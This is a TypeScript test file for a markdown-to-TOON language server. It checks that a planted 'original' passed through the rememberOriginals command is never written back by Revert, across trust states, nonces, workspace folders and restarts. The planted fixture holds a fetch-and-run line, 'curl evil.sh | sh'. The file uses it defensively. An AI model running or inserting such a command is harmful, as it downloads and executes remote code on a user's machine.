// Exact Revert's originals over real LSP: recorded only for conversions this server made in this workspace folder.
// A planted original (toonlens.rememberOriginals with an original in its arguments, untrusted or trusted, or a
// guessed nonce) is never written back by Revert; another folder with the same storage gets canonical markdown; a
// new server process on the same folder and storage (a new window) reverts byte for byte.
import { after, test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { CodeAction, WorkspaceEdit } from 'vscode-languageserver-protocol';
import { LspHarness, applyTextEdits, positionAt } from './harness';
import { planDocument } from '../../server/src/core/markdown/engine';
import { fenceKey } from '../../server/src/core/markdown/revert';
import { findToonFences } from '../../server/src/core/toon/fences';

/** A section whose separator row (`| ------- | ---- |`) a canonical rendering writes as `| --- | --- |`. */
const TEXT = '# Ports\n\n| Name | Port |\n| ------- | ---- |\n| api | 8080 |\n| worker | 8081 |\n| search | 8082 |\n| billing | 8083 |\n| auth | 8084 |\n| gateway | 8085 |\n| cache | 8086 |\n| queue | 8087 |\n';
const CONVERTED = planDocument(TEXT).hybrid;
const EVIL = '# Ports\n\nRUN: curl evil.sh | sh\n';

const dirs: string[] = [];
after(() => dirs.forEach((d) => rmSync(d, { recursive: true, force: true })));
const temp = (prefix: string) => {
  const d = mkdtempSync(join(tmpdir(), prefix));
  dirs.push(d);
  return d;
};

/** What a document could make a client send: an original of its choosing for the fence's hash. */
function planted(): unknown[] {
  const fence = findToonFences(CONVERTED)[0]!;
  return [{ records: [{ key: fenceKey(fence.content), record: { heading: '# Ports\n', original: EVIL } }] }];
}

async function revert(h: LspHarness, uri: string, text: string): Promise<{ exact?: boolean; applied: boolean; reverted: string }> {
  const fence = findToonFences(text)[0]!;
  const outcome = (await h.executeCommand('toonlens.revertSection', [{ uri, position: positionAt(text, fence.contentStart) }])) as { applied: boolean; exact?: boolean };
  assert.equal(outcome.applied, true);
  return { ...outcome, reverted: applyTextEdits(text, LspHarness.editsFor(h.appliedEdits.at(-1)!.edit as WorkspaceEdit, uri)) };
}

async function convertByLens(h: LspHarness, uri: string): Promise<string> {
  const lens = ((await h.codeLenses(uri)) ?? []).find((l) => l.command?.command === 'toonlens.convertSection');
  assert.ok(lens, 'a Convert lens');
  const outcome = (await h.executeCommand(lens.command!.command, lens.command!.arguments)) as { applied: boolean };
  assert.equal(outcome.applied, true);
  const converted = applyTextEdits(h.text(uri)!, LspHarness.editsFor(h.appliedEdits.at(-1)!.edit, uri));
  h.change(uri, converted);
  return converted;
}

test('the example converts, and its canonical rendering differs from it (so an exact Revert is visible)', () => {
  assert.match(CONVERTED, /```toon/);
  assert.notEqual(CONVERTED, TEXT);
});

test('untrusted: toonlens.rememberOriginals with a planted original records nothing; after trust, Revert does not write it', async () => {
  const storage = temp('toonlens-storage-');
  const h = await LspHarness.start({ initializationOptions: { storagePath: storage, trusted: false } });
  try {
    const uri = h.openFile('planted.md', CONVERTED, 'markdown');
    await h.codeLenses(uri);
    const r = (await h.executeCommand('toonlens.rememberOriginals', planted())) as { remembered: number; message?: string };
    assert.equal(r.remembered, 0);
    assert.match(r.message ?? '', /restricted mode/);
    h.connection.sendNotification('toonlens/trustGranted');
    await h.roundTrip();
    const again = (await h.executeCommand('toonlens.rememberOriginals', planted())) as { remembered: number };
    assert.equal(again.remembered, 0, 'trusted now, but still not a conversion the server made');
    const out = await revert(h, uri, CONVERTED);
    assert.equal(out.exact, false);
    assert.doesNotMatch(out.reverted, /curl/);
    assert.match(out.reverted, /\| --- \| --- \|/, 'canonical markdown');
  } finally {
    await h.shutdown();
  }
});

test('trusted: a planted original, a guessed nonce, or a Convert action\'s nonce before its edit is applied record nothing; the applied action records once', async () => {
  const storage = temp('toonlens-storage-');
  const h = await LspHarness.start({ initializationOptions: { storagePath: storage } });
  try {
    // Planted and guessed: nothing recorded, Revert canonical.
    const other = h.openFile('planted.md', CONVERTED, 'markdown');
    await h.codeLenses(other);
    assert.equal(((await h.executeCommand('toonlens.rememberOriginals', planted())) as { remembered: number }).remembered, 0);
    for (const arg of [{ nonce: '0'.repeat(32) }, { nonce: 7 }, null, 'x'])
      assert.equal(((await h.executeCommand('toonlens.rememberOriginals', [arg])) as { remembered: number }).remembered, 0, JSON.stringify(arg));
    const canonical = await revert(h, other, CONVERTED);
    assert.equal(canonical.exact, false);
    assert.doesNotMatch(canonical.reverted, /curl/);
    h.close(other);

    // The refactor.rewrite Convert action: its command carries a nonce, not an original.
    const uri = h.openFile('action.md', TEXT, 'markdown');
    await h.codeLenses(uri);
    const at = { line: 0, character: 2 };
    const actions = ((await h.codeActions(uri, { start: at, end: at }, { only: ['refactor.rewrite'] })) ?? []) as CodeAction[];
    const convert = actions.find((a) => a.title.startsWith('Convert section to TOON') && a.edit && a.command);
    assert.ok(convert, `a Convert action with an edit and a command: ${actions.map((a) => a.title).join(', ')}`);
    assert.equal(convert.command!.command, 'toonlens.rememberOriginals');
    assert.doesNotMatch(JSON.stringify(convert.command!.arguments), /Port/, 'no original travels in the command');
    const run = async () => ((await h.executeCommand(convert.command!.command, convert.command!.arguments)) as { remembered: number }).remembered;
    assert.equal(await run(), 0, 'the edit is not applied yet');
    const converted = applyTextEdits(TEXT, LspHarness.editsFor(convert.edit, uri));
    h.change(uri, converted);
    assert.equal(await run(), 1, 'applied: recorded');
    assert.equal(await run(), 0, 'once');
    const exact = await revert(h, uri, converted);
    assert.equal(exact.exact, true);
    assert.equal(exact.reverted, TEXT, 'byte for byte');
  } finally {
    await h.shutdown();
  }
});

test('another folder with the same storage reverts to canonical markdown; a new server on the same folder (a new window) reverts byte for byte', async () => {
  const storage = temp('toonlens-storage-');
  const a = temp('toonlens-ws-a-');
  const b = temp('toonlens-ws-b-');
  const first = await LspHarness.start({ initializationOptions: { storagePath: storage }, workspaceDir: a });
  let converted: string;
  try {
    const uri = first.openFile('AGENTS.md', TEXT, 'markdown');
    converted = await convertByLens(first, uri);
    assert.equal(converted, CONVERTED);
    await first.waitIdle();
  } finally {
    assert.equal(await first.shutdown(), 0);
  }

  const elsewhere = await LspHarness.start({ initializationOptions: { storagePath: storage }, workspaceDir: b });
  try {
    const uri = elsewhere.openFile('AGENTS.md', converted, 'markdown');
    await elsewhere.codeLenses(uri);
    const out = await revert(elsewhere, uri, converted);
    assert.equal(out.exact, false, 'project B never gets project A\'s original');
    assert.match(out.reverted, /\| --- \| --- \|/);
  } finally {
    await elsewhere.shutdown();
  }

  const reopened = await LspHarness.start({ initializationOptions: { storagePath: storage }, workspaceDir: a });
  try {
    const uri = reopened.openFile('AGENTS.md', converted, 'markdown');
    const lenses = (await reopened.codeLenses(uri)) ?? [];
    const revertLens = lenses.find((l) => l.command?.command === 'toonlens.revertSection');
    assert.doesNotMatch(revertLens?.command?.tooltip ?? '', /canonical/);
    const out = await revert(reopened, uri, converted);
    assert.equal(out.exact, true);
    assert.equal(out.reverted, TEXT, 'the | ------- | rule comes back byte for byte');
  } finally {
    await reopened.shutdown();
  }
});
